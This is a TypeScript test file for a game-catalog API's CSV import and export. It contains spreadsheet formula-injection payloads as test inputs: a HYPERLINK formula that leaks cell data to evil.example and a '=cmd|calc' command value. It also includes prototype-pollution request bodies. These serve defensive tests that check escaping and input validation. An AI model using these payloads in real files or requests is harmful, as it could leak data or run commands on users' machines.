import t from 'tap'
import { build, resetDb, authHeaders } from '../helper.ts'
import { readCsv } from '../../domain/csv.ts'

const HEADER = 'pack_name,title,min_players,max_players,length_minutes,has_audience,family_friendly,game_type,drawing'

t.test('readCsv: one pass, each record with the line it starts on', async (t) => {
  const text = '\uFEFFa,b\n\n"multi\nline", x \r\n"bad"q,1\n1,2\n"open,1\n3,4\n'
  t.same([...readCsv(text)], [
    { line: 1, fields: ['a', 'b'] },
    { line: 3, fields: ['multi\nline', 'x'] },
    { line: 5, error: 'Invalid closing quote: a quoted field must be followed by a comma or the end of the line' },
    { line: 6, fields: ['1', '2'] },
    { line: 7, error: 'Quote not closed' },
    { line: 8, fields: ['3', '4'] }
  ], 'an open quote at the end is reported once and reading resumes on the next line')
  t.same([...readCsv('a,"b ""c""",\nx"y,z\n"","",""')], [
    { line: 1, fields: ['a', 'b "c"', ''] },
    { line: 2, error: 'Invalid opening quote: a quote inside an unquoted field' },
    { line: 3, fields: ['', '', ''] }
  ])
})

t.test('catalog CSV', async (t) => {
  const app = await build(t)
  const auth = authHeaders(app)
  t.beforeEach(() => resetDb(app))

  const importCsv = (csv: string, mode = 'append') =>
    app.inject({ method: 'POST', url: '/api/games/import/csv', headers: auth, payload: { csv, mode } })
  const exportCsv = async () => (await app.inject({ url: '/api/games/export/csv' })).body
  const titles = async () => (await app.inject({ url: '/api/games?pack=Formula%20Pack' })).json().map((g: { title: string, game_type: string | null }) => [g.title, g.game_type])

  t.test('export escapes formula cells with a \' and import removes it: export → import round-trips', async (t) => {
    const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '@SUM(A1:A9)', '-2+3', '+1', '\tTabbed', '\rReturn',
      "'=already escaped", "'Tis the season", 'Plain - dash']
    for (const title of formulas) {
      const res = await app.inject({
        method: 'POST',
        url: '/api/games',
        headers: auth,
        payload: { pack_name: 'Formula Pack', title, min_players: 2, max_players: 4, game_type: title === '+1' ? '=cmd|calc' : null }
      })
      t.equal(res.statusCode, 201, title)
    }
    const csv = await exportCsv()
    t.same(csv.split('\n').slice(-10, -1), [
      'Formula Pack,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2,4,,0,0,,0',
      "Formula Pack,'@SUM(A1:A9),2,4,,0,0,,0",
      "Formula Pack,'-2+3,2,4,,0,0,,0",
      "Formula Pack,'+1,2,4,,0,0,'=cmd|calc,0",
      "Formula Pack,'\tTabbed,2,4,,0,0,,0",
      'Formula Pack,"\'\rReturn",2,4,,0,0,,0',
      "Formula Pack,''=already escaped,2,4,,0,0,,0",
      "Formula Pack,'Tis the season,2,4,,0,0,,0",
      'Formula Pack,Plain - dash,2,4,,0,0,,0'
    ], 'no exported cell starts with a formula character')
    const before = await titles()

    const same = await importCsv(csv, 'replace')
    t.same(same.json(), { imported: 0, updated: 76, errors: [], errorCount: 0 })
    t.same(await titles(), before)

    await resetDb(app, { catalog: false })
    const fresh = await importCsv(csv)
    t.same(fresh.json(), { imported: 76, updated: 0, errors: [], errorCount: 0 })
    t.same(await titles(), before, 'the titles come back exactly as they were')
    t.equal(await exportCsv(), csv)
  })

  t.test('errors lists the first 100 bad lines, errorCount counts them all; broken quotes do not swallow good lines', async (t) => {
    const lines = [HEADER]
    for (let i = 0; i < 150; i++) {
      lines.push(`Bad Pack,"Broken ${i}"x,2,4,,0,0,,0`)
      lines.push(`Bad Pack,Good ${i},2,4,,0,0,,0`)
    }
    lines.push('Bad Pack,"Never closed,2,4,,0,0,,0', 'Bad Pack,After The Open Quote,2,4,,0,0,,0')
    const res = await importCsv(lines.join('\n'))
    t.equal(res.statusCode, 200)
    t.same(res.json(), {
      imported: 151,
      updated: 0,
      errors: Array.from({ length: 100 }, (_, i) => ({
        line: 2 + 2 * i, error: 'Invalid closing quote: a quoted field must be followed by a comma or the end of the line'
      })),
      errorCount: 151
    })
    const list = (await app.inject({ url: '/api/games?pack=Bad%20Pack' })).json()
    t.equal(list.length, 151)
  })

  t.test('the streamed body parser answers bad bodies as every other JSON route does', async (t) => {
    const bodies = ['{"csv": "pack_name', '', '   ', '{"csv": "a\nb", "mode": "append"} x', '{"__proto__": {"x": 1}, "csv": "a", "mode": "append"}',
      '{"constructor": {"prototype": {}}, "csv": "a", "mode": "append"}', '{"csv": "a\\u0000b", "mode": "append"}', '{"csv": "a\u0000b"}']
    for (const payload of bodies) {
      const headers = { ...auth, 'content-type': 'application/json' }
      const csv = await app.inject({ method: 'POST', url: '/api/games/import/csv', headers, payload })
      // POST /api/sessions has the default parser and a body schema with no required field.
      const other = await app.inject({ method: 'POST', url: '/api/sessions', headers, payload })
      // Named as a JSON string: a raw NUL in a test name makes the TAP output binary to grep.
      t.equal(csv.statusCode, 400, JSON.stringify(payload))
      t.same(csv.json(), other.json(), `${JSON.stringify(payload)}: ${csv.body}`)
    }
    for (const [payload, error] of [
      ['{"csv": "a", "mode": "append", "extra": 1}', "Unknown field 'extra' in the request body"],
      ['{"csv": ["a"], "mode": "append"}', 'csv must be string']
    ]) {
      const res = await app.inject({ method: 'POST', url: '/api/games/import/csv', headers: { ...auth, 'content-type': 'application/json' }, payload })
      t.equal(res.statusCode, 400, payload)
      t.same(res.json(), { error }, payload)
    }
    const tooLarge = await app.inject({
      method: 'POST', url: '/api/games/import/csv', headers: auth, payload: { csv: 'x'.repeat(6 * 1024 * 1024), mode: 'append' }
    })
    t.equal(tooLarge.statusCode, 413)
    t.same(tooLarge.json(), { error: 'Request body is too large' })
    const unicode = `${HEADER}\nPäck 😀,"Tïtle ""q"", ok",2,4,,0,0,,0\n`
    const res = await importCsv(unicode)
    t.same(res.json(), { imported: 1, updated: 0, errors: [], errorCount: 0 })
    t.same((await app.inject({ url: '/api/games?q=t%C3%AFtle' })).json().map((g: { pack_name: string, title: string }) => [g.pack_name, g.title]),
      [['Päck 😀', 'Tïtle "q", ok']])
  })

  t.test('a 400,000-line CSV imports while /api/health keeps answering', async (t) => {
    // Mostly bad lines (the attack: every skipped line used to re-count the text before it), every 400th a new game.
    const lines = [HEADER.split(',').slice(0, 4).join(',')]
    const expected: Array<{ line: number, error: string }> = []
    let games = 0
    for (let i = 0; i < 400_000; i++) {
      const line = i + 2
      if (i % 400 === 0) {
        lines.push(`Big,g${i},1,2`)
        games++
        continue
      }
      switch (i % 3) {
        case 0:
          lines.push('x')
          expected.push({ line, error: 'Expected 4 fields, found 1' })
          break
        case 1:
          lines.push('Big,"q"x,1,2')
          expected.push({ line, error: 'Invalid closing quote: a quoted field must be followed by a comma or the end of the line' })
          break
        default:
          lines.push('Big,b,0,2')
          expected.push({ line, error: 'min_players must be a positive integer' })
      }
    }
    const csv = lines.join('\n')
    t.ok(csv.length < 5_000_000, `${csv.length} characters fit the 5 MB limit`)

    const base = await app.listen({ port: 0, host: '127.0.0.1' })
    // The body goes out in 64 KiB pieces; `sent` marks when the last one was handed over, `answered` the response.
    const body = Buffer.from(JSON.stringify({ csv, mode: 'append' }))
    const marks = { started: 0, sent: Infinity, answered: Infinity }
    const pieces = (async function * () {
      for (let at = 0; at < body.length; at += 65536) yield body.subarray(at, at + 65536)
      marks.sent = performance.now()
    })()
    const probes: Array<{ status: number, started: number, ended: number }> = []
    const probing = (async () => {
      while (marks.answered === Infinity) {
        const started = performance.now()
        const res = await fetch(`${base}/api/health`)
        await res.arrayBuffer()
        probes.push({ status: res.status, started, ended: performance.now() })
        await new Promise((resolve) => setTimeout(resolve, 5))
      }
    })()
    marks.started = performance.now()
    const res = await fetch(`${base}/api/games/import/csv`, {
      method: 'POST',
      headers: { ...auth, 'content-type': 'application/json', 'content-length': String(body.length) },
      body: ReadableStream.from(pieces),
      duplex: 'half'
    } as RequestInit)
    marks.answered = performance.now()
    await probing
    t.equal(res.status, 200)
    t.same(await res.json(), { imported: games, updated: 0, errors: expected.slice(0, 100), errorCount: expected.length })
    t.same(probes.filter((p) => p.status !== 200), [], 'every probe answered 200')
    // Answered while the import was in flight, also between the body's last byte and the answer (validation, reading
    // the CSV, writing the games). bench/csv-import measures how fast.
    const inFlight = probes.filter((p) => p.started >= marks.started && p.ended < marks.answered)
    const afterSent = inFlight.filter((p) => p.started >= marks.sent)
    t.ok(inFlight.length >= 5, `${inFlight.length} probes answered while the import was in flight`)
    t.ok(afterSent.length >= 3, `${afterSent.length} of them after the body was sent`)
  })
})
